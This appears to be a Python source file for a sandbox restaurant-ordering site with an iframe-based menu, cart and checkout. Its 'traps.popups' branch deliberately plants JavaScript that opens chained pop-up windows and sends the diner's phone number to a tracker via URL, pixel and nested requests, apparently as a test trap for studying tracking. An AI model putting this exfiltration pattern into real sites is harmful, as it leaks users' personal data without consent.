"""Vendor style ``iframe_shell`` ("框点 KuangDian"): a shell page with the shop header and
footer, whose menu / cart / checkout live in a same-origin ``<iframe>`` (``frame?view=...``).

Gates marked ``where: "top"`` run in the shell before the frame is inserted;
the others run inside the frame.  An optional server-side OAuth 302 guards the shell.
With ``cfg.traps.popups`` the frame's confirmation view opens pop-up windows (one of them
opening another) that send the diner's phone to the tracker.
"""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import quote

from sandbox.sites.common import authorize_url, esc, footer_html, mbase, menu_of, page, qa_config, table_of
from sandbox.web import Req, Resp

SKIN = {"p": "kf", "color": "#0a9d58", "div": False, "radius": "4px"}
SHELL_CSS = """body{margin:0;font-family:"Microsoft YaHei","PingFang SC",sans-serif;background:#e9f5ee}
.kf-top{height:54px;background:#0a9d58;color:#fff;display:flex;align-items:center;padding:0 14px;justify-content:space-between}
.kf-top b{font-size:18px}.kf-frame{width:100%;height:calc(100vh - 120px);border:0;display:block;background:#fff}
.kf-footer{font-size:12px;color:#5b7f6b;text-align:center;padding:8px}.kf-footer a{color:#5b7f6b}"""
FRAME_CSS = """body{margin:0;font-family:"Microsoft YaHei","PingFang SC",sans-serif;color:#234}
.kf-tabs{display:flex;border-bottom:2px solid #0a9d58}.kf-tabs a{flex:1;text-align:center;padding:9px;color:#0a9d58;text-decoration:none}
.kf-tabs a.on{background:#0a9d58;color:#fff}.kf-row{display:flex;justify-content:space-between;align-items:center;padding:10px 12px;border-bottom:1px dashed #cde}
.kf-add{background:#fff;color:#0a9d58;border:1px solid #0a9d58;border-radius:3px;padding:5px 10px}
.kf-primary{display:block;width:calc(100% - 24px);margin:12px;padding:11px;background:#0a9d58;color:#fff;border:0;border-radius:3px;font-size:16px;text-align:center;text-decoration:none}
.kf-body{padding:0 12px}.kf-body input,.kf-body textarea,.kf-body select{width:100%;box-sizing:border-box;padding:8px;border:1px solid #bcd;margin-top:4px}
.kf-body input[type=radio],.kf-body input[type=checkbox]{width:auto}.co-err{color:#c00}.kf-sheet{position:fixed;inset:0;background:rgba(0,0,0,.5);display:flex;align-items:center;justify-content:center}
.kf-sheet>div{background:#fff;padding:16px;width:80%}.kf-note{font-size:12px;color:#789}"""

WORDS = {
    "zhs": {"menu": "菜单", "cart": "购物车", "add": "加入购物车", "spec": "选规格", "ok": "确定", "go": "去结算", "settle": "结算",
            "submit": "提交订单", "empty": "购物车为空", "table": "桌号", "title": "在线点餐", "total": "合计"},
    "zht": {"menu": "菜單", "cart": "購物車", "add": "加入購物車", "spec": "選規格", "ok": "確定", "go": "去結帳", "settle": "結帳",
            "submit": "送出訂單", "empty": "購物車是空的", "table": "桌號", "title": "線上點餐", "total": "合計"},
}


def _shell(sb: Any, req: Req, m: dict[str, Any]) -> Resp:
    wd = WORDS[m["cfg"].get("lang", "zhs")]
    conf = qa_config(sb, req, m, SKIN)
    src = f"{mbase(m)}/frame?table={quote(table_of(req))}&view=menu"
    body = (f'<div class="kf-top"><b>{esc(m["name"])}</b><span>{wd["table"]} {esc(table_of(req) or "-")} · {wd["title"]}</span></div>'
            f'<div id="holder"></div>{footer_html(m, "kf")}'
            f"<script>window.QA={conf};</script><script src=\"/static/gates.js\"></script>"
            f"<script>QG.run('entry',function(){{var f=document.createElement('iframe');f.className='kf-frame';"
            f"f.title='menu';f.src={json.dumps(src)};document.getElementById('holder').appendChild(f);}},'top');</script>")
    return page(m, m["name"], body, f"<style>{SHELL_CSS}</style>")


def _frame(sb: Any, req: Req, m: dict[str, Any]) -> Resp:
    wd = WORDS[m["cfg"].get("lang", "zhs")]
    conf = qa_config(sb, req, m, SKIN)
    view = req.query.get("view", "menu")
    base = f"{mbase(m)}/frame?table={quote(table_of(req))}&view="
    tabs = (f'<div class="kf-tabs"><a href="{base}menu" class="{"on" if view == "menu" else ""}">{wd["menu"]}</a>'
            f'<a href="{base}cart" class="{"on" if view == "cart" else ""}">{wd["cart"]} <span id="cnt"></span></a></div>')
    menu = json.dumps(menu_of(m), ensure_ascii=False).replace("</", "<\\/")
    if view == "menu":
        rows = "".join(
            f'<div class="kf-row"><div><span class="kf-name">{esc(x["name"])}</span><br><small>¥{x["price"]}</small></div>'
            f'<button type="button" class="kf-add" data-i="{i}">{wd["spec"] if x.get("spec") else wd["add"]}</button></div>'
            for i, x in enumerate(menu_of(m)))
        inner = f'<div id="content" style="visibility:hidden">{rows}<a class="kf-primary" href="{base}cart">{wd["go"]}</a></div>'
        js = f"""
var W={json.dumps(wd, ensure_ascii=False)};
function cnt(){{document.getElementById('cnt').textContent=QG.cartCount()?'('+QG.cartCount()+')':'';}}
QG.run('entry',function(){{document.getElementById('content').style.visibility='visible';cnt();}},'frame');
Array.prototype.forEach.call(document.querySelectorAll('.kf-add'),function(b){{b.addEventListener('click',function(){{
 var x=QA.menu[+b.getAttribute('data-i')];
 if(x.spec){{var s=document.createElement('div');s.className='kf-sheet';s.innerHTML='<div><h3>'+QG.esc(x.name)+' · '+W.spec+'</h3>'+
  x.spec.map(function(o,i){{return '<label style="display:block;margin:6px 0"><input type="radio" name="spec" value="'+QG.esc(o)+'"'+(i?'':' checked')+'> '+QG.esc(o)+'</label>';}}).join('')+
  '<button type="button" class="kf-primary ok">'+W.ok+'</button></div>';document.body.appendChild(s);
  s.querySelector('.ok').addEventListener('click',function(){{var v=s.querySelector('input:checked').value;s.remove();QG.run('add',function(){{QG.addToCart(x,v);cnt();}},'frame');}});return;}}
 QG.run('add',function(){{QG.addToCart(x);cnt();}},'frame');}});}});
"""
    elif view == "cart":
        inner = '<div id="content" class="kf-body"></div>'
        js = f"""
var W={json.dumps(wd, ensure_ascii=False)};document.getElementById('cnt').textContent=QG.cartCount()?'('+QG.cartCount()+')':'';
QG.run('cart',function(){{var c=QG.cart(),h='';
 if(!c.length)h='<p>'+W.empty+'</p>';
 c.forEach(function(x){{h+='<div class="kf-row"><span>'+QG.esc(x.name)+' ×'+x.n+'</span><span>¥'+x.price*x.n+'</span></div>';}});
 if(c.length)h+='<div class="kf-row"><b>'+W.total+'</b><b>¥'+QG.cartTotal()+'</b></div><a class="kf-primary" href="{base}checkout">'+W.settle+'</a>';
 document.getElementById('content').innerHTML=h;}},'frame');
"""
    elif view == "checkout":
        inner = '<div id="content" class="kf-body"></div>'
        js = f"""
var W={json.dumps(wd, ensure_ascii=False)};
if(!QG.cart().length){{location.href='{base}cart';}}else{{
QG.run('checkout',function(){{var el=document.getElementById('content');
 el.innerHTML='<h3>'+W.settle+'</h3>'+QG.checkoutHtml()+'<button type="button" class="kf-primary sub">'+QG.esc(QA.submit||W.submit)+'</button>';
 QG.wireCheckout(el);el.querySelector('.sub').addEventListener('click',function(){{QG.submitOrder(el,function(){{location.href='{base}done';}});}});
}},'frame');}}
"""
    else:
        inner = '<div id="content"></div>'
        js = "var el=document.getElementById('content');el.innerHTML=QG.doneHtml();QG.wireDone(el);"
        if m["cfg"].get("traps", {}).get("popups"):
            # from inside the frame: three windows, each sending the diner's phone on (one opens a window itself)
            js += ("var ph=QG.get('phone');if(ph)setTimeout(function(){"
                   "window.open(QA.base+'/coupon?ph='+ph+'&tp='+encodeURIComponent(QA.tp),'_blank');"
                   "var w=window.open('');if(w){w.document.write('<p>loading</p><img src=\"'+QA.tp+'/pixel.gif?ev=popup&u='+btoa(ph)+'\">');w.document.close();}"
                   "var w2=window.open('');if(w2){w2.document.write('<scr'+'ipt>window.open('+JSON.stringify(QA.tp+'/collect?ev=nested&mobile='+ph)+');</scr'+'ipt>');w2.document.close();}"
                   "},300);")
        tabs = ""
    body = (f"{tabs}{inner}<script>window.QA={conf};QA.menu={menu};</script><script src=\"/static/gates.js\"></script>"
            f"<script>{js}</script>")
    return page(m, m["name"], body, f"<style>{FRAME_CSS}</style>")


def handle(sb: Any, req: Req, m: dict[str, Any], rest: str) -> Resp:
    """Serve one request of an ``iframe_shell`` merchant."""
    oauth = m["cfg"].get("server_oauth")
    if rest == "/":
        if oauth and not req.cookies.get("qa_auth"):
            return Resp.redirect(authorize_url(req, m, oauth.get("provider", "wechat"), oauth["scope"], table_of(req)))
        return _shell(sb, req, m)
    if rest == "/frame":
        return _frame(sb, req, m)
    return Resp("not found", 404, "text/plain")
